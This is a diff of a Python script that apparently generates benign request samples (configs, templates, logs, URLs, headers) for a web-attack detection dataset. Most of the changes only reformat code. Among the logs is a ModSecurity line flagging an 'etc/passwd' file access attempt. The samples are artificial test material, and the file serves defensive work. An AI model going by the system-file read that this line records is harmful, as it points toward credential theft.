+            'variables:\n  GREETING: "Hello ${CI_COMMIT_AUTHOR}"\nscript:\n  - echo "$GREETING"\n',
+            "multipart",
+            mp="file",
+            fname=".gitlab-ci.yml",
+            fctype="application/x-yaml",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            "ProxyPass /app http://localhost:8080/app\nProxyPassReverse /app http://localhost:8080/app\n",
+            "json",
+            param="apache_snippet",
+            ep="/api/hosting/proxy",
+        ),
+        B(
+            "[alias]\n    lg = log --graph --oneline --decorate\n    undo = reset --soft HEAD~1\n",
+            "json",
+            param="gitconfig",
+            ep="/api/dotfiles",
+        ),
     ]
     return H, N
 
 
 def gen_templates():
     H, N = [], []
-    plain = ["Thanks for your order!", "Your appointment is confirmed.", "We received your return.", "Your password was changed.",
-             "Your subscription renews soon.", "Welcome to the community!", "Your parcel is out for delivery.", "Your invoice is ready.",
-             "Your ticket has been updated.", "Your trial ends in 3 days."]
+    plain = [
+        "Thanks for your order!",
+        "Your appointment is confirmed.",
+        "We received your return.",
+        "Your password was changed.",
+        "Your subscription renews soon.",
+        "Welcome to the community!",
+        "Your parcel is out for delivery.",
+        "Your invoice is ready.",
+        "Your ticket has been updated.",
+        "Your trial ends in 3 days.",
+    ]
     for i, t in enumerate(plain):
         N.append(t + " " + R.choice(SENTENCES))
-        N.append("%s\n\n%s\n\nThe %s team" % (t, R.choice(SENTENCES), R.choice(["Northwind", "Acme", "Globex", "Fabrikam"])))
-    for key in ["checkout.title", "cart.empty", "profile.save", "errors.network", "orders.none", "nav.home", "footer.rights", "auth.logout",
-                "search.placeholder", "settings.saved"]:
-        N.append(B(R.choice(["Checkout", "Your cart is empty", "Save changes", "Network error, please retry", "No orders yet", "Home",
-                             "All rights reserved", "Log out", "Search products", "Settings saved"]) + " (" + key + ")", "json", ep="/api/i18n/strings",
-                   doc={"key": key, "locale": "en", "value": MARK}))
+        N.append(
+            "%s\n\n%s\n\nThe %s team" % (t, R.choice(SENTENCES), R.choice(["Northwind", "Acme", "Globex", "Fabrikam"]))
+        )
+    for key in [
+        "checkout.title",
+        "cart.empty",
+        "profile.save",
+        "errors.network",
+        "orders.none",
+        "nav.home",
+        "footer.rights",
+        "auth.logout",
+        "search.placeholder",
+        "settings.saved",
+    ]:
+        N.append(
+            B(
+                R.choice(
+                    [
+                        "Checkout",
+                        "Your cart is empty",
+                        "Save changes",
+                        "Network error, please retry",
+                        "No orders yet",
+                        "Home",
+                        "All rights reserved",
+                        "Log out",
+                        "Search products",
+                        "Settings saved",
+                    ]
+                )
+                + " ("
+                + key
+                + ")",
+                "json",
+                ep="/api/i18n/strings",
+                doc={"key": key, "locale": "en", "value": MARK},
+            )
+        )
     H += [
-        "Hi {{first_name}}, your order #{{order.id}} has shipped and should arrive by {{order.eta | date: \"%b %d\"}}.",
+        'Hi {{first_name}}, your order #{{order.id}} has shipped and should arrive by {{order.eta | date: "%b %d"}}.',
         "{% if user.is_premium %}Thanks for being a Premium member!{% else %}Upgrade today and save 20%.{% endif %}",
         "{{#items}}\n- {{name}} x {{qty}}: {{price}}\n{{/items}}\nTotal: {{total}}",
         "Hello, {name}! You have {count, plural, one {# new message} other {# new messages}}.",
@@ -2894,9 +5708,9 @@ def gen_templates():
         "Hello {{=it.name}}, your code is {{=it.code}}.",
         "Hi <%- user.firstName %>, reset your password here: <%= resetUrl %>",
         "{{#if (gt cart.items.length 0)}}You left {{cart.items.length}} items in your cart.{{/if}}",
-        "Hi {{ user.name | default: \"there\" }}, {{ 'now' | date: \"%Y\" }} recap is ready!",
+        'Hi {{ user.name | default: "there" }}, {{ \'now\' | date: "%Y" }} recap is ready!',
         "{{ range .Items }}- {{ .Title }}\n{{ end }}",
-        "Invoice {{invoice.number}} - due {{invoice.due_date|date:\"d M Y\"}}",
+        'Invoice {{invoice.number}} - due {{invoice.due_date|date:"d M Y"}}',
         "Your verification code is {{code}}. It expires in {{ttl_minutes}} minutes.",
         "{% raw %}{{ this is not rendered }}{% endraw %}",
         "Hey {{ contact.first_name }}, see {{ links.docs }}/getting-started?ref={{ campaign.id }}",
@@ -2907,46 +5721,88 @@ def gen_templates():
 def gen_logs():
     H, N = [], []
     for i in range(16):
-        ts = "2026-12-07T%02d:%02d:%02d.%03dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))
-        ev = R.choice([("INFO", "order created", {"orderId": R.randint(1000, 99999)}), ("WARN", "slow query", {"ms": R.randint(500, 5000)}),
-                       ("INFO", "user signed in", {"userId": R.randint(1, 99999)}), ("ERROR", "payment declined", {"code": "card_declined"}),
-                       ("DEBUG", "cache miss", {"key": "product:%d" % R.randint(1, 9999)}), ("INFO", "email queued", {"template": "welcome"})])
-        line = compact(dict({"ts": ts, "level": ev[0], "msg": ev[1], "service": R.choice(["api", "worker", "web"])}, **ev[2]))
+        ts = "2026-12-07T%02d:%02d:%02d.%03dZ" % (
+            R.randint(0, 23),
+            R.randint(0, 59),
+            R.randint(0, 59),
+            R.randint(0, 999),
+        )
+        ev = R.choice(
+            [
+                ("INFO", "order created", {"orderId": R.randint(1000, 99999)}),
+                ("WARN", "slow query", {"ms": R.randint(500, 5000)}),
+                ("INFO", "user signed in", {"userId": R.randint(1, 99999)}),
+                ("ERROR", "payment declined", {"code": "card_declined"}),
+                ("DEBUG", "cache miss", {"key": "product:%d" % R.randint(1, 9999)}),
+                ("INFO", "email queued", {"template": "welcome"}),
+            ]
+        )
+        line = compact(
+            dict({"ts": ts, "level": ev[0], "msg": ev[1], "service": R.choice(["api", "worker", "web"])}, **ev[2])
+        )
         N.append(B(line, "json", jobj=True, ep="/api/v1/logs/ingest", doc={"events": [MARK]}, style="api"))
     for i in range(16):
         ip = "%d.%d.%d.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
-        pth = R.choice(["/", "/products/42", "/api/v2/cart", "/static/app.3f9c1b.js", "/blog/winter-sale", "/favicon.ico", "/login"])
-        N.append("%s - - [07/Dec/2026:%02d:%02d:%02d +0100] \"GET %s HTTP/2.0\" %d %d \"-\" \"%s\"" % (
-            ip, R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), pth, R.choice([200, 200, 304, 404]), R.randint(200, 90000), R.choice(UAS["chrome"])))
+        pth = R.choice(
+            [
+                "/",
+                "/products/42",
+                "/api/v2/cart",
+                "/static/app.3f9c1b.js",
+                "/blog/winter-sale",
+                "/favicon.ico",
+                "/login",
+            ]
+        )
+        N.append(
+            '%s - - [07/Dec/2026:%02d:%02d:%02d +0100] "GET %s HTTP/2.0" %d %d "-" "%s"'
+            % (
+                ip,
+                R.randint(0, 23),
+                R.randint(0, 59),
+                R.randint(0, 59),
+                pth,
+                R.choice([200, 200, 304, 404]),
+                R.randint(200, 90000),
+                R.choice(UAS["chrome"]),
+            )
+        )
     for i in range(10):
-        N.append("%s [%s] %s - %s" % ("2026-12-07 %02d:%02d:%02d,%03d" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999)),
-                                       R.choice(["main", "pool-2-thread-7", "http-nio-8080-exec-3", "scheduler-1"]), R.choice(["INFO", "WARN", "DEBUG"]),
-                                       R.choice(SENTENCES)))
+        N.append(
+            "%s [%s] %s - %s"
+            % (
+                "2026-12-07 %02d:%02d:%02d,%03d"
+                % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999)),
+                R.choice(["main", "pool-2-thread-7", "http-nio-8080-exec-3", "scheduler-1"]),
+                R.choice(["INFO", "WARN", "DEBUG"]),
+                R.choice(SENTENCES),
+            )
+        )
     H += [
-        "Exception in thread \"main\" java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"name\" is null\n"
+        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n'
         "\tat com.example.orders.OrderService.validate(OrderService.java:118)\n\tat com.example.orders.OrderController.create(OrderController.java:54)\n"
         "\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)\n",
-        "Traceback (most recent call last):\n  File \"/app/worker.py\", line 42, in run\n    result = subprocess.run(cmd, check=True)\n"
-        "  File \"/usr/lib/python3.12/subprocess.py\", line 571, in run\n    raise CalledProcessError(retcode, process.args)\n"
+        'Traceback (most recent call last):\n  File "/app/worker.py", line 42, in run\n    result = subprocess.run(cmd, check=True)\n'
+        '  File "/usr/lib/python3.12/subprocess.py", line 571, in run\n    raise CalledProcessError(retcode, process.args)\n'
         "subprocess.CalledProcessError: Command '['pg_dump', 'shop']' returned non-zero exit status 1.\n",
-        "ERROR:  syntax error at or near \"SELECT\"\nLINE 1: SELECT * FROM orders WHERE id = 1 SELECT\n                                         ^\n",
-        "203.0.113.50 - - [07/Dec/2026:22:10:03 +0100] \"GET /index.php?page=contact&lang=de HTTP/1.1\" 200 5123 \"-\" \"Mozilla/5.0\"",
+        'ERROR:  syntax error at or near "SELECT"\nLINE 1: SELECT * FROM orders WHERE id = 1 SELECT\n                                         ^\n',
+        '203.0.113.50 - - [07/Dec/2026:22:10:03 +0100] "GET /index.php?page=contact&lang=de HTTP/1.1" 200 5123 "-" "Mozilla/5.0"',
         "2026/12/07 22:14:51 [error] 1234#1234: *88 connect() failed (111: Connection refused) while connecting to upstream, client: 198.51.100.7, "
-        "server: app.example.com, request: \"GET /api/health HTTP/1.1\", upstream: \"http://127.0.0.1:8000/api/health\", host: \"app.example.com\"",
+        'server: app.example.com, request: "GET /api/health HTTP/1.1", upstream: "http://127.0.0.1:8000/api/health", host: "app.example.com"',
         "Dec  7 22:20:01 web01 CRON[5512]: (root) CMD (/usr/local/bin/backup.sh > /dev/null 2>&1)",
         "Dec  7 22:31:44 web01 sshd[7781]: Failed password for invalid user admin from 192.0.2.55 port 50122 ssh2",
         "WARN  [ldap] search failed for filter (&(objectClass=person)(uid=ana.silva)): timeout after 5000ms",
         "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (webpack-internal:///./src/ProductList.jsx:12:23)\n    at renderWithHooks (react-dom.development.js:16305:18)",
         "PHP Warning:  include(/var/www/html/partials/header.php): Failed to open stream: No such file or directory in /var/www/html/index.php on line 7",
         "[2026-12-07 22:40:12] production.ERROR: SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'ana@example.com' for key 'users_email_unique'",
-        "level=warn ts=2026-12-07T21:50:00Z caller=scrape.go:1234 msg=\"scrape failed\" target=http://10.0.3.4:9100/metrics err=\"context deadline exceeded\"",
-        "ModSecurity: Warning. Matched phrase \"etc/passwd\" at ARGS:file. [id \"930120\"] [msg \"OS File Access Attempt\"] [hostname \"shop.example.com\"] [uri \"/download\"]",
+        'level=warn ts=2026-12-07T21:50:00Z caller=scrape.go:1234 msg="scrape failed" target=http://10.0.3.4:9100/metrics err="context deadline exceeded"',
+        'ModSecurity: Warning. Matched phrase "etc/passwd" at ARGS:file. [id "930120"] [msg "OS File Access Attempt"] [hostname "shop.example.com"] [uri "/download"]',
         "kernel: [ 8812.331] Out of memory: Killed process 3321 (java) total-vm:8123456kB, anon-rss:4012345kB",
         "2026-12-07 22:55:10 UTC [4411]: user=app,db=shop LOG:  duration: 1532.2 ms  statement: SELECT * FROM orders WHERE status = 'pending' ORDER BY created_at",
         "fatal: unable to access 'https://git.example.com/team/repo.git/': Could not resolve host: git.example.com",
         "Caused by: org.hibernate.exception.SQLGrammarException: could not execute query\n\tat org.hibernate.exception.internal.SQLStateConversionDelegate.convert(SQLStateConversionDelegate.java:103)",
-        "{\"level\":\"error\",\"msg\":\"template render failed\",\"template\":\"Hi {{ name }}\",\"err\":\"undefined variable: name\"}",
-        "127.0.0.1 - - [07/Dec/2026:23:01:17 +0100] \"POST /graphql HTTP/1.1\" 200 812 \"http://localhost:3000/\" \"Mozilla/5.0\"",
+        '{"level":"error","msg":"template render failed","template":"Hi {{ name }}","err":"undefined variable: name"}',
+        '127.0.0.1 - - [07/Dec/2026:23:01:17 +0100] "POST /graphql HTTP/1.1" 200 812 "http://localhost:3000/" "Mozilla/5.0"',
         "docker: Error response from daemon: driver failed programming external connectivity on endpoint web (0.0.0.0:8080): port is already allocated.",
         "System.IO.FileNotFoundException: Could not find file 'C:\\inetpub\\wwwroot\\App_Data\\settings.json'.\n   at System.IO.FileStream.ValidateFileHandle(SafeFileHandle fileHandle)",
         "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@18.3.1",
@@ -2957,10 +5813,21 @@ def gen_logs():
 
 
 BENIGN_GENS = {
-    "benign_richtext": gen_richtext, "benign_markdown": gen_markdown, "benign_code": gen_code, "benign_search": gen_search,
-    "benign_graphql": gen_graphql, "benign_files": gen_files, "benign_urls": gen_urls, "benign_base64": gen_base64,
-    "benign_api_json": gen_api_json, "benign_forms": gen_forms, "benign_headers": gen_headers, "benign_email": gen_email,
-    "benign_config": gen_config, "benign_templates": gen_templates, "benign_logs": gen_logs,
+    "benign_richtext": gen_richtext,
+    "benign_markdown": gen_markdown,
+    "benign_code": gen_code,
+    "benign_search": gen_search,
+    "benign_graphql": gen_graphql,
+    "benign_files": gen_files,
+    "benign_urls": gen_urls,
+    "benign_base64": gen_base64,
+    "benign_api_json": gen_api_json,
+    "benign_forms": gen_forms,
+    "benign_headers": gen_headers,
+    "benign_email": gen_email,
+    "benign_config": gen_config,
+    "benign_templates": gen_templates,
+    "benign_logs": gen_logs,
 }
 
 
@@ -2968,76 +5835,226 @@ def extra_normals(kind):
     """More ordinary rows for kinds whose hand-written lists are short."""
     out = []
     if kind == "benign_graphql":
-        for ent, fields in [("customer", "id firstName lastName email"), ("shipment", "id carrier trackingNumber status"),
-                            ("review", "id rating body author { name }"), ("coupon", "id code percentOff expiresAt"),
-                            ("warehouse", "id name city capacity"), ("playlist", "id title tracks { id title }")]:
+        for ent, fields in [
+            ("customer", "id firstName lastName email"),
+            ("shipment", "id carrier trackingNumber status"),
+            ("review", "id rating body author { name }"),
+            ("coupon", "id code percentOff expiresAt"),
+            ("warehouse", "id name city capacity"),
+            ("playlist", "id title tracks { id title }"),
+        ]:
             T = ent[0].upper() + ent[1:]
             out.append("query Get%s($id: ID!) {\n  %s(id: $id) {\n    %s\n  }\n}" % (T, ent, fields))
             out.append("query Recent%ss {\n  %ss(last: 10) {\n    nodes { %s }\n  }\n}" % (T, ent, fields))
-            out.append("mutation Create%s($input: Create%sInput!) {\n  create%s(input: $input) { %s { id } }\n}" % (T, T, T, ent))
+            out.append(
+                "mutation Create%s($input: Create%sInput!) {\n  create%s(input: $input) { %s { id } }\n}"
+                % (T, T, T, ent)
+            )
     elif kind == "benign_files":
         for i in range(16):
-            out.append(B("%s-%s-%d.%s" % (R.choice(["holiday", "family", "project", "client", "board", "garden"]),
-                                          R.choice(["notes", "plan", "list", "summary", "minutes"]), R.randint(1, 999), R.choice(["txt", "md", "csv"])),
-                         "multipart", mp="filename", field="file", fctype="text/plain", fcontent="notes\n", ep="/api/drive/upload"))
+            out.append(
+                B(
+                    "%s-%s-%d.%s"
+                    % (
+                        R.choice(["holiday", "family", "project", "client", "board", "garden"]),
+                        R.choice(["notes", "plan", "list", "summary", "minutes"]),
+                        R.randint(1, 999),
+                        R.choice(["txt", "md", "csv"]),
+                    ),
+                    "multipart",
+                    mp="filename",
+                    field="file",
+                    fctype="text/plain",
+                    fcontent="notes\n",
+                    ep="/api/drive/upload",
+                )
+            )
     elif kind == "benign_urls":
-        slugs = ["espresso-machine-x200", "trail-runner-3", "oak-desk-140", "wool-scarf-grey", "usb-c-hub-7in1", "linen-shirt-blue", "yoga-mat-pro"]
+        slugs = [
+            "espresso-machine-x200",
+            "trail-runner-3",
+            "oak-desk-140",
+            "wool-scarf-grey",
+            "usb-c-hub-7in1",
+            "linen-shirt-blue",
+            "yoga-mat-pro",
+        ]
         for s in slugs:
-            out.append(B("https://shop.example.com/p/%s?ref=%s" % (s, R.choice(["home", "email", "search", "ad"])), R.choice(["json", "form"]),
-                         param=R.choice(["url", "link", "productUrl"]), ep=R.choice(["/api/wishlist", "/share/new", "/api/bookmarks"])))
-        for p_ in ["/settings/notifications", "/billing/invoices?year=2026", "/team/members", "/integrations/slack", "/help/articles/312",
-                   "/checkout/review", "/events/2026/berlin", "/u/ana.silva", "/library/loans", "/messages/thread/8812"]:
-            out.append(B(p_, "query", param=R.choice(["next", "return_to", "redirect_uri", "from"]), ep=R.choice(["/login", "/sso/start", "/auth/signin"])))
-        for d in ["blog.example.net/2026/11/roadmap", "www.example.org/about-us", "news.example.com/tech/ai-regulation-2026",
-                  "careers.example.com/jobs/4412", "example.com/pricing#enterprise", "docs.example.com/api/v2/authentication"]:
-            out.append(B("https://" + d, "json", param=R.choice(["url", "canonicalUrl", "sourceUrl"]), ep=R.choice(["/api/cms/pages", "/api/feeds", "/api/bookmarks"])))
+            out.append(
+                B(
+                    "https://shop.example.com/p/%s?ref=%s" % (s, R.choice(["home", "email", "search", "ad"])),
+                    R.choice(["json", "form"]),
+                    param=R.choice(["url", "link", "productUrl"]),
+                    ep=R.choice(["/api/wishlist", "/share/new", "/api/bookmarks"]),
+                )
+            )
+        for p_ in [
+            "/settings/notifications",
+            "/billing/invoices?year=2026",
+            "/team/members",
+            "/integrations/slack",
+            "/help/articles/312",
+            "/checkout/review",
+            "/events/2026/berlin",
+            "/u/ana.silva",
+            "/library/loans",
+            "/messages/thread/8812",
+        ]:
+            out.append(
+                B(
+                    p_,
+                    "query",
+                    param=R.choice(["next", "return_to", "redirect_uri", "from"]),
+                    ep=R.choice(["/login", "/sso/start", "/auth/signin"]),
+                )
+            )
+        for d in [
+            "blog.example.net/2026/11/roadmap",
+            "www.example.org/about-us",
+            "news.example.com/tech/ai-regulation-2026",
+            "careers.example.com/jobs/4412",
+            "example.com/pricing#enterprise",
+            "docs.example.com/api/v2/authentication",
+        ]:
+            out.append(
+                B(
+                    "https://" + d,
+                    "json",
+                    param=R.choice(["url", "canonicalUrl", "sourceUrl"]),
+                    ep=R.choice(["/api/cms/pages", "/api/feeds", "/api/bookmarks"]),
+                )
+            )
     elif kind == "benign_headers":
         for ua in UAS["firefox"] + UAS["safari"]:
             out.append(B(ua, "header", hdr="User-Agent", ep=R.choice(["/", "/pricing", "/blog/"])))
         for i in range(6):
-            out.append(B(uuid4(), "header", hdr=R.choice(["X-Request-ID", "X-Correlation-ID", "Idempotency-Key"]), style="api", ep="/api/v2/payments"))
+            out.append(
+                B(
+                    uuid4(),
+                    "header",
+                    hdr=R.choice(["X-Request-ID", "X-Correlation-ID", "Idempotency-Key"]),
+                    style="api",
+                    ep="/api/v2/payments",
+                )
+            )
         for i in range(4):
-            out.append(B("%s-%s" % (R.choice(["web", "ios", "android"]), R.choice(["5.12.0", "5.11.3", "2026.12.1", "4.0.0-beta.2"])), "header",
-                         hdr="X-Client-Version", style="api"))
+            out.append(
+                B(
+                    "%s-%s"
+                    % (
+                        R.choice(["web", "ios", "android"]),
+                        R.choice(["5.12.0", "5.11.3", "2026.12.1", "4.0.0-beta.2"]),
+                    ),
+                    "header",
+                    hdr="X-Client-Version",
+                    style="api",
+                )
+            )
     elif kind == "benign_email":
         for i in range(14):
-            f = R.choice(["ana", "wei", "priya", "lukas", "sofia", "mateo", "aisha", "jonas", "yuki", "olga", "liam", "noah"])
-            out.append(B("%s%s@%s" % (f, R.choice(["", ".k", "_2026", "+shop", "-work"]), R.choice(["example.com", "example.org", "mail.example.net", "uni.example.edu"])),
-                         R.choice(["form", "json"]), param=R.choice(["email", "contact_email", "billingEmail"]), ep=R.choice(["/checkout/contact", "/api/users/me", "/signup"])))
+            f = R.choice(
+                ["ana", "wei", "priya", "lukas", "sofia", "mateo", "aisha", "jonas", "yuki", "olga", "liam", "noah"]
+            )
+            out.append(
+                B(
+                    "%s%s@%s"
+                    % (
+                        f,
+                        R.choice(["", ".k", "_2026", "+shop", "-work"]),
+                        R.choice(["example.com", "example.org", "mail.example.net", "uni.example.edu"]),
+                    ),
+                    R.choice(["form", "json"]),
+                    param=R.choice(["email", "contact_email", "billingEmail"]),
+                    ep=R.choice(["/checkout/contact", "/api/users/me", "/signup"]),
+                )
+            )
     elif kind == "benign_config":
         for i in range(8):
-            out.append(B("# generated %d\n[server]\nport = %d\nworkers = %d\n\n[logging]\nlevel = \"%s\"\n" % (i, R.choice([8080, 9000, 3000]), R.randint(2, 16),
-                                                                                                     R.choice(["info", "warn"])),
-                         R.choice(["json", "multipart"]), param="config_toml", mp="file", fname="app.toml", fctype="application/toml", ep="/api/apps/config"))
+            out.append(
+                B(
+                    '# generated %d\n[server]\nport = %d\nworkers = %d\n\n[logging]\nlevel = "%s"\n'
+                    % (i, R.choice([8080, 9000, 3000]), R.randint(2, 16), R.choice(["info", "warn"])),
+                    R.choice(["json", "multipart"]),
+                    param="config_toml",
+                    mp="file",
+                    fname="app.toml",
+                    fctype="application/toml",
+                    ep="/api/apps/config",
+                )
+            )
     elif kind == "benign_templates":
-        subjects = ["Your receipt from {store}", "Reminder: {event} starts tomorrow", "{name} invited you to {project}", "Action required: verify your email",
-                    "Your weekly summary", "We miss you", "New login from {device}", "Your order is on its way", "Payment failed for {plan}",
-                    "Welcome to {product}"]
+        subjects = [
+            "Your receipt from {store}",
+            "Reminder: {event} starts tomorrow",
+            "{name} invited you to {project}",
+            "Action required: verify your email",
+            "Your weekly summary",
+            "We miss you",
+            "New login from {device}",
+            "Your order is on its way",
+            "Payment failed for {plan}",
+            "Welcome to {product}",
+        ]
         for s_ in subjects:
-            out.append(B(s_, "json", ep="/api/notifications/templates", doc={"channel": "email", "subject": MARK, "locale": R.choice(["en", "en-GB"])}))
+            out.append(
+                B(
+                    s_,
+                    "json",
+                    ep="/api/notifications/templates",
+                    doc={"channel": "email", "subject": MARK, "locale": R.choice(["en", "en-GB"])},
+                )
+            )
         for i in range(16):
-            out.append(B("%s Reply STOP to opt out." % R.choice(SENTENCES), "json", param="smsText", ep="/api/sms/templates"))
+            out.append(
+                B("%s Reply STOP to opt out." % R.choice(SENTENCES), "json", param="smsText", ep="/api/sms/templates")
+            )
     elif kind == "benign_logs":
         for i in range(10):
-            out.append(B("%s %s %s" % ("2026-12-07T%02d:%02d:%02dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59)),
-                                       R.choice(["job=nightly-export", "job=thumbnailer", "job=mailer", "job=reindex"]),
-                                       R.choice(["started", "finished in %ds" % R.randint(2, 900), "retrying (attempt %d/5)" % R.randint(1, 5)])),
-                         "json", param="line", ep="/api/v1/logs/ingest", style="api"))
+            out.append(
+                B(
+                    "%s %s %s"
+                    % (
+                        "2026-12-07T%02d:%02d:%02dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59)),
+                        R.choice(["job=nightly-export", "job=thumbnailer", "job=mailer", "job=reindex"]),
+                        R.choice(
+                            [
+                                "started",
+                                "finished in %ds" % R.randint(2, 900),
+                                "retrying (attempt %d/5)" % R.randint(1, 5),
+                            ]
+                        ),
+                    ),
+                    "json",
+                    param="line",
+                    ep="/api/v1/logs/ingest",
+                    style="api",
+                )
+            )
     elif kind == "benign_code":
-        for lang, tmpl in [("sql", "CREATE INDEX idx_%s_%s ON %s (%s);\n"), ("sql", "ALTER TABLE %s ADD COLUMN %s_id bigint REFERENCES %s(%s);\n")]:
+        for lang, tmpl in [
+            ("sql", "CREATE INDEX idx_%s_%s ON %s (%s);\n"),
+            ("sql", "ALTER TABLE %s ADD COLUMN %s_id bigint REFERENCES %s(%s);\n"),
+        ]:
             for t in ["orders", "invoices", "customers", "events"]:
                 c = R.choice(["created_at", "status", "email", "tenant_id"])
                 out.append(tmpl % (t, c, t, c) if "INDEX" in tmpl else tmpl % (t, c.split("_")[0], t, "id"))
     return out
 
 
-GQL_SAMPLE = {"ID": lambda: str(R.randint(1, 99999)), "Int": lambda: R.choice([10, 20, 50]), "String": lambda: R.choice(["winter boots", "ana@example.com", "abc"]),
-              "Boolean": lambda: R.choice([True, False]), "URL": lambda: "https://example.com/article/42", "JSON": lambda: {}}
+GQL_SAMPLE = {
+    "ID": lambda: str(R.randint(1, 99999)),
+    "Int": lambda: R.choice([10, 20, 50]),
+    "String": lambda: R.choice(["winter boots", "ana@example.com", "abc"]),
+    "Boolean": lambda: R.choice([True, False]),
+    "URL": lambda: "https://example.com/article/42",
+    "JSON": lambda: {},
+}
 
 
 def gql_vars(q):
     out = {}
     import re
+
     for name, typ in re.findall(r"\$(\w+)\s*:\s*\[?(\w+)", q):
         if typ in GQL_SAMPLE:
             out[name] = GQL_SAMPLE[typ]()
@@ -3051,10 +6068,17 @@ def gql_vars(q):
 
 
 BCTX = {
-    "benign_richtext": dict(eps=["/api/v1/posts", "/api/comments", "/admin/posts/new"], params=["content", "body", "description"]),
-    "benign_markdown": dict(eps=["/api/v3/repos/acme/web/issues", "/projects/42/comments"], params=["body", "description"]),
+    "benign_richtext": dict(
+        eps=["/api/v1/posts", "/api/comments", "/admin/posts/new"], params=["content", "body", "description"]
+    ),
+    "benign_markdown": dict(
+        eps=["/api/v3/repos/acme/web/issues", "/projects/42/comments"], params=["body", "description"]
+    ),
     "benign_code": dict(eps=["/api/gists", "/api/format", "/paste"], params=["code", "source", "snippet"]),
-    "benign_search": dict(eps=["/search", "/api/search", "/docs/search", "/shop/search", "/help/search"], params=["q", "query", "term", "search"]),
+    "benign_search": dict(
+        eps=["/search", "/api/search", "/docs/search", "/shop/search", "/help/search"],
+        params=["q", "query", "term", "search"],
+    ),
     "benign_graphql": dict(eps=["/graphql", "/api/graphql", "/v1/graphql"], params=["query"]),
     "benign_files": dict(eps=["/api/v1/files", "/upload"], params=["file"]),
     "benign_urls": dict(eps=["/api/bookmarks"], params=["url"]),
@@ -3073,32 +6097,83 @@ def place(kind, p):
     r = R.random()
     if kind == "benign_richtext":
         if r < 0.45:
-            return B(p, "json", ep=R.choice(["/api/v1/posts", "/api/comments", "/api/pages/12/blocks"]), doc=R.choice([
-                {"post": {"title": R.choice(TITLES), "body_html": MARK, "status": "draft"}}, {"comment": {"body": MARK, "parentId": None}},
-                {"content": MARK, "format": "html", "version": R.randint(2, 40)}]))
+            return B(
+                p,
+                "json",
+                ep=R.choice(["/api/v1/posts", "/api/comments", "/api/pages/12/blocks"]),
+                doc=R.choice(
+                    [
+                        {"post": {"title": R.choice(TITLES), "body_html": MARK, "status": "draft"}},
+                        {"comment": {"body": MARK, "parentId": None}},
+                        {"content": MARK, "format": "html", "version": R.randint(2, 40)},
+                    ]
+                ),
+            )
         if r < 0.8:
-            return B(p, "form", ep=R.choice(["/admin/posts/new", "/wp-admin/post.php", "/cms/pages/12/edit"]),
-                     fields=[("title", R.choice(TITLES)), ("content", MARK), ("_token", rand_alnum(40))])
+            return B(
+                p,
+                "form",
+                ep=R.choice(["/admin/posts/new", "/wp-admin/post.php", "/cms/pages/12/edit"]),
+                fields=[("title", R.choice(TITLES)), ("content", MARK), ("_token", rand_alnum(40))],
+            )
         return B(p, "multipart", mp="field", param="description", ep="/admin/products/12/edit")
     if kind == "benign_markdown":
         if r < 0.5:
-            return B(p, "json", ep="/api/v3/repos/acme/web/issues", doc={"title": p.split("\n")[0].lstrip("#> ")[:60] or "Issue", "body": MARK, "labels": ["triage"]})
+            return B(
+                p,
+                "json",
+                ep="/api/v3/repos/acme/web/issues",
+                doc={"title": p.split("\n")[0].lstrip("#> ")[:60] or "Issue", "body": MARK, "labels": ["triage"]},
+            )
         if r < 0.75:
-            return B(p, "json", ep="/api/v3/repos/acme/web/issues/%d/comments" % R.randint(10, 2000), doc={"body": MARK})
+            return B(
+                p, "json", ep="/api/v3/repos/acme/web/issues/%d/comments" % R.randint(10, 2000), doc={"body": MARK}
+            )
         if r < 0.92:
-            return B(p, "form", ep="/projects/42/comments", fields=[("comment[body]", MARK), ("authenticity_token", rand_alnum(43))])
+            return B(
+                p,
+                "form",
+                ep="/projects/42/comments",
+                fields=[("comment[body]", MARK), ("authenticity_token", rand_alnum(43))],
+            )
         return B(p, "multipart", mp="field", param="readme", ep="/api/projects/42/docs")
     if kind == "benign_code":
         if r < 0.35:
-            return B(p, "json", ep="/api/gists", doc={"description": "snippet", "public": False, "files": {R.choice(["snippet.txt", "example.py", "util.js", "query.sql"]): {"content": MARK}}})
+            return B(
+                p,
+                "json",
+                ep="/api/gists",
+                doc={
+                    "description": "snippet",
+                    "public": False,
+                    "files": {R.choice(["snippet.txt", "example.py", "util.js", "query.sql"]): {"content": MARK}},
+                },
+            )
         if r < 0.55:
-            return B(p, "json", ep="/api/format", doc={"language": R.choice(["python", "javascript", "go", "java", "sql", "bash"]), "source": MARK})
+            return B(
+                p,
+                "json",
+                ep="/api/format",
+                doc={"language": R.choice(["python", "javascript", "go", "java", "sql", "bash"]), "source": MARK},
+            )
         if r < 0.7:
-            return B(p, "json", ep="/api/notebooks/8/cells", doc={"cells": [{"cell_type": "code", "source": MARK, "outputs": []}]})
+            return B(
+                p,
+                "json",
+                ep="/api/notebooks/8/cells",
+                doc={"cells": [{"cell_type": "code", "source": MARK, "outputs": []}]},
+            )
         if r < 0.85:
             return B(p, "form", ep="/paste", fields=[("title", "untitled"), ("code", MARK), ("expiry", "1w")])
-        return B(p, "multipart", mp="file", fname=R.choice(["main.py", "index.js", "query.sql", "Service.java", "handler.go"]), fctype="text/plain",
-                 field="file", ep="/api/review/uploads")
+        return B(
+            p,
+            "multipart",
+            mp="file",
+            fname=R.choice(["main.py", "index.js", "query.sql", "Service.java", "handler.go"]),
+            fctype="text/plain",
+            field="file",
+            ep="/api/review/uploads",
+        )
     if kind == "benign_search":
         if r < 0.75:
             return B(p, "query", param=R.choice(["q", "q", "query", "search", "term"]), ep=R.choice(BCTX[kind]["eps"]))
@@ -3110,6 +6185,7 @@ def place(kind, p):
